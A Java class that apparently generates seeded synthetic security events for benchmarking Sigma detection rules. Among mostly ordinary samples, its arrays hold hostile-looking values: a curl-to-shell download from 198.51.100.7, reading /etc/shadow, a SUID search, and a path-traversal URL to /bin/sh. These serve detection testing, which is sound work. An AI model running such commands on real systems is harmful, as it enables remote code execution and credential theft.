package org.fenghuo.bench.sigma;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.fenghuo.events.EcsJsonCodec;
import org.fenghuo.events.EcsJsonException;
import org.fenghuo.events.SecurityEvent;

/**
 * Synthetic ECS traffic of a city network: flows, DNS, HTTP, linux authentication and process
 * starts, in equal shares, seeded so every run sees the same events. A few values are what rules
 * look for (curl|sh, /etc/shadow, .onion), most are ordinary.
 */
final class BenchTraffic {
    private static final String[] DOMAINS = {"www.example.cn", "portal.city.local", "api.weather.gov.cn",
            "cdn.jsdelivr.net", "updates.vendor.com", "x7k2p.onion", "mail.city.local", "time.windows.com"};
    private static final String[] URLS = {"/index.html", "/login", "/api/v1/status?id=42", "/static/app.js",
            "/cgi-bin/.%2e/.%2e/bin/sh", "/wp-login.php", "/search?q=traffic", "/admin/config.php"};
    private static final String[] AGENTS = {"Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0", "curl/8.0.1",
            "python-requests/2.31", "Go-http-client/1.1", "Mozilla/5.0 (Windows NT 10.0) Chrome/119.0"};
    private static final String[] COMMANDS = {"/usr/bin/ls -la /home", "/bin/bash -c curl http://198.51.100.7/x.sh | sh",
            "/usr/sbin/sshd -D", "/usr/bin/python3 /opt/app/server.py", "/usr/bin/cat /etc/shadow",
            "/usr/bin/systemctl restart nginx", "/usr/bin/crontab -l", "/usr/bin/find / -perm -4000"};
    private static final String[] AUTH = {"Failed password for root from %s port %d ssh2",
            "Accepted publickey for deploy from %s port %d ssh2", "pam_unix(sudo:session): session opened for user root",
            "Invalid user admin from %s port %d", "Connection closed by authenticating user git %s port %d [preauth]"};

    private BenchTraffic() {
    }

    static List<SecurityEvent> generate(int count, long seed) {
        Random r = new Random(seed);
        List<SecurityEvent> out = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            String json = switch (i % 5) {
                case 0 -> flow(r, i);
                case 1 -> dns(r, i);
                case 2 -> http(r, i);
                case 3 -> auth(r, i);
                default -> process(r, i);
            };
            try {
                out.add(EcsJsonCodec.fromJson(json));
            } catch (EcsJsonException e) {
                throw new IllegalStateException("bench event " + json, e);
            }
        }
        return out;
    }

    private static String ip(Random r) {
        return r.nextInt(4) == 0 ? "203.0.113." + r.nextInt(255) : "10." + r.nextInt(255) + "." + r.nextInt(255) + "." + (1 + r.nextInt(254));
    }

    /** event.* as our collectors set it (category, type, module, dataset), which the shipped pipelines test. */
    private static String head(int i, String category, String type, String dataset) {
        String module = dataset.substring(0, dataset.indexOf('.')); // ECS: dataset is <module>.<name>
        return "\"@timestamp\":\"2026-11-23T10:00:00Z\",\"event\":{\"id\":\"ev-" + i + "\",\"category\":[\"" + category
                + "\"],\"type\":[\"" + type + "\"],\"module\":\"" + module + "\",\"dataset\":\"" + dataset + "\"}";
    }

    private static String flow(Random r, int i) {
        return "{" + head(i, "network", "connection", "netflow.flow") + ",\"source\":{\"ip\":\"" + ip(r) + "\",\"port\":" + (1024 + r.nextInt(60000))
                + ",\"bytes\":" + r.nextInt(100000) + "},\"destination\":{\"ip\":\"" + ip(r) + "\",\"port\":"
                + new int[] {22, 53, 80, 443, 3389, 502, 4444}[r.nextInt(7)] + "},\"network\":{\"transport\":\"tcp\"}}";
    }

    private static String dns(Random r, int i) {
        String name = DOMAINS[r.nextInt(DOMAINS.length)];
        return "{" + head(i, "network", "protocol", "pcap.dns") + ",\"network\":{\"protocol\":\"dns\",\"transport\":\"udp\"},\"source\":{\"ip\":\""
                + ip(r) + "\"},\"destination\":{\"ip\":\"10.0.0.53\",\"port\":53},\"dns\":{\"type\":\"answer\",\"question\":{\"name\":\""
                + name + "\",\"type\":\"A\"},\"answers\":[{\"data\":\"198.51.100." + r.nextInt(255) + "\"}]}}";
    }

    private static String http(Random r, int i) {
        return "{" + head(i, "network", "protocol", "pcap.http") + ",\"network\":{\"protocol\":\"http\"},\"source\":{\"ip\":\"" + ip(r)
                + "\"},\"http\":{\"request\":{\"method\":\"" + (r.nextInt(4) == 0 ? "POST" : "GET") + "\"},\"response\":{\"status_code\":"
                + new int[] {200, 200, 301, 404, 500}[r.nextInt(5)] + "}},\"url\":{\"original\":\"" + URLS[r.nextInt(URLS.length)]
                + "\",\"domain\":\"" + DOMAINS[r.nextInt(DOMAINS.length)] + "\"},\"user_agent\":{\"original\":\""
                + AGENTS[r.nextInt(AGENTS.length)] + "\"}}";
    }

    private static String auth(Random r, int i) {
        String msg = String.format(AUTH[r.nextInt(AUTH.length)], ip(r), 1024 + r.nextInt(60000));
        return "{" + head(i, "authentication", "info", "syslog.sshd") + ",\"process\":{\"name\":\"sshd\"},\"message\":\"" + msg + "\",\"host\":{\"name\":\"web-" + r.nextInt(20)
                + "\"},\"user\":{\"name\":\"" + (r.nextBoolean() ? "root" : "deploy") + "\"},\"log\":{\"syslog\":{\"appname\":\"sshd\"}},"
                + "\"event.original\":\"<38>1 2026-11-23T10:00:00Z web sshd - - - " + msg + "\"}";
    }

    private static String process(Random r, int i) {
        String cmd = COMMANDS[r.nextInt(COMMANDS.length)];
        String exe = cmd.substring(0, cmd.indexOf(' '));
        return "{" + head(i, "process", "start", "syslog.sudo") + ",\"process\":{\"name\":\"" + exe.substring(exe.lastIndexOf('/') + 1)
                + "\",\"pid\":" + (100 + r.nextInt(30000)) + ",\"executable\":\"" + exe + "\",\"command_line\":\"" + cmd
                + "\",\"parent\":{\"executable\":\"/bin/bash\"}},\"user\":{\"name\":\"" + (r.nextBoolean() ? "root" : "www-data")
                + "\"},\"host\":{\"name\":\"app-" + r.nextInt(20) + "\"}}";
    }
}
